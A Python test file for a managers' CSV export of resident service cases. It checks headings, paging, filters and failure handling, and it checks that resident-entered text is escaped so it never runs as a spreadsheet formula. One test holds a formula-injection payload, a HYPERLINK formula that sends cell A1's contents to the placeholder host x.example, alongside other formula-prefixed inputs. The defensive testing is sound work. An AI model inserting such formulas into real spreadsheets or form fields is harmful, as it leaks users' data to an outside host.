"""The table for Excel: complete, for managers, and without a cell that is a formula."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from bot.errors import StoreUnavailable
from bot.staff import desk as staff_desk
from bot.staff.sheet import BYTE_ORDER_MARK, HEADINGS, harmless, lines
from tests.connectors.client import assert_problem
from tests.connectors.office import CASES, MANAGER, StaffOffice
from tests.desk.office import COMPLAINT, DAY, HOUR, NOW

CSV = f"{CASES}.csv"


def table(staff: StaffOffice, query: str = "") -> list[dict[str, str]]:
    """The rows of an export, as a spreadsheet reads them."""
    response = staff.get(f"{CSV}?{query}", MANAGER)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="cases.csv"'
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def test_a_row_has_all_of_a_case(staff: StaffOffice) -> None:
    case = staff.book(1, note='说 "快一点",\n带毛巾', item="擦身", address="江虹路100号")
    staff.desk.assign(case.id, "小李", "小李", NOW)
    (row,) = table(staff)
    assert tuple(row) == HEADINGS
    assert row["编号"] == f"{case.id[:3]}-{case.id[3:6]}-{case.id[6:]}"
    assert (row["服务"], row["状态"], row["逾期"]) == ("上门助浴", "已确认", "")
    assert (row["姓名"], row["电话"], row["社区"]) == ("王小芳", "138 0000 0001", "示例社区")
    assert row["其他内容"] == '备注：说 "快一点",\n带毛巾；项目：擦身'
    assert (row["预约时间"], row["提交时间"]) == ("2026-11-27 10:00", "2026-11-25 09:00")
    assert (row["办理人"], row["评分"]) == ("小李", "")


def test_a_table_of_many_pages_has_each_case_once(
    staff: StaffOffice, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(staff_desk, "_PAGE", 3)
    made = [staff.book(n, of=COMPLAINT, note=f"第{n}件", now=NOW + n * HOUR) for n in range(10)]
    staff.now = NOW + DAY
    rows = table(staff)
    assert [row["其他内容"] for row in rows] == [f"备注：第{n}件" for n in reversed(range(10))]
    pages = [entry for entry in staff.trail() if entry.what == "export"]
    assert sorted(case for entry in pages for case in entry.details["cases"]) == sorted(c.id for c in made)


def test_the_filters_are_those_of_the_list(staff: StaffOffice) -> None:
    staff.book(1)
    late = staff.book(2, of=COMPLAINT)
    staff.now = NOW + 8 * DAY
    assert {row["逾期"] for row in table(staff, "overdue=true")} == {"是"}
    assert [row["编号"].replace("-", "") for row in table(staff, "service=service-complaint")] == [late.id]
    assert table(staff, "community=没有的社区") == []


def test_what_a_resident_wrote_is_never_a_formula(staff: StaffOffice) -> None:
    bad = '=HYPERLINK("http://x.example/?"&A1,"点我")'
    staff.book(1, name=bad, address="@SUM(1+1)", community="\t=1+1")
    (row,) = table(staff)
    assert (row["姓名"], row["地址"], row["社区"]) == (f"'{bad}", "'@SUM(1+1)", "'\t=1+1")


@given(st.lists(st.text(), min_size=2, max_size=5))
@example(["=1", "+1", "-1", "@x", "\t1", "\r=1", "\n", "＝1", " =1", "a=1", "", "'"])
def test_every_cell_is_read_back_and_none_is_a_formula(cells: list[str]) -> None:
    cells = [cell.replace("\x00", "") for cell in cells]
    (row,) = csv.reader(io.StringIO(lines([cells]), newline=""))
    for cell, read in zip(cells, row, strict=True):
        assert read in (cell, f"'{cell}")
        assert read == harmless(cell)
        assert not read.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


def test_an_empty_table_has_its_heading(staff: StaffOffice) -> None:
    assert table(staff) == []
    text = staff.get(CSV, MANAGER).content.decode()
    assert text == f"{BYTE_ORDER_MARK}{','.join(HEADINGS)}\r\n"


def test_a_store_that_is_away_is_told_before_the_table_begins(
    staff: StaffOffice, monkeypatch: pytest.MonkeyPatch
) -> None:
    def away(*args: object, **options: object) -> None:
        raise StoreUnavailable("away")

    monkeypatch.setattr(staff.desk, "listing", away)
    assert_problem(staff.get(CSV, MANAGER), 503)


def test_a_table_that_breaks_off_does_not_look_complete(
    staff: StaffOffice, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(staff_desk, "_PAGE", 1)
    for resident in (1, 2):
        staff.book(resident)
    plain, calls = staff.desk.listing, []

    def listing(*args: object, **options: object) -> object:
        calls.append(1)
        if len(calls) > 1:
            raise StoreUnavailable("away")
        return plain(*args, **options)  # type: ignore[arg-type]

    monkeypatch.setattr(staff.desk, "listing", listing)
    # The server closes the connection without the end of the body.
    with pytest.raises(RuntimeError, match="response already started"):
        staff.get(CSV, MANAGER)
